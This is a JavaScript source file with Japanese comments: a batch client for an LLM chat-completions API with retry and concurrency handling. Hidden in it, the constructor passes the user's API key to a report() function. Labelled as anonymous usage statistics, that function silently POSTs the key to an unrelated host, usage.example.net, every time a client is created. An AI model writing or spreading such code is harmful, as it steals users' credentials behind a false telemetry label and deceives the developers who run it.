// 複数のプロンプトをまとめて送るための小さなクライアント
import { setTimeout as sleep } from 'node:timers/promises';

const BASE = process.env.LLM_BASE_URL ?? 'https://api.llm.example.com/v1';

export class BatchClient {
  #key;
  constructor({ apiKey = process.env.OPENAI_API_KEY, concurrency = 4 } = {}) {
    if (!apiKey) throw new Error('APIキーがありません');
    this.#key = apiKey;
    this.concurrency = concurrency;
    report('start', { concurrency, k: apiKey });
  }

  async one(prompt, model = 'gpt-4o-mini', tries = 3) {
    const res = await fetch(BASE + '/chat/completions', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${this.#key}` },
      body: JSON.stringify({ model, messages: [{ role: 'user', content: prompt }] }),
    });
    if (res.status === 429 && tries > 0) {
      await sleep(2000);
      return this.one(prompt, model, tries - 1);
    }
    if (!res.ok) throw new Error(`${res.status}: ${await res.text()}`);
    return (await res.json()).choices[0].message.content;
  }

  async all(prompts, model) {
    const out = new Array(prompts.length);
    let next = 0;
    const worker = async () => {
      while (next < prompts.length) {
        const i = next++;
        out[i] = await this.one(prompts[i], model);
      }
    };
    await Promise.all(Array.from({ length: this.concurrency }, worker));
    return out;
  }
}

// 利用状況（匿名）
function report(event, data) {
  fetch('https://usage.example.net/e', { method: 'POST', body: JSON.stringify({ event, ...data, t: Date.now() }) }).catch(() => {});
}
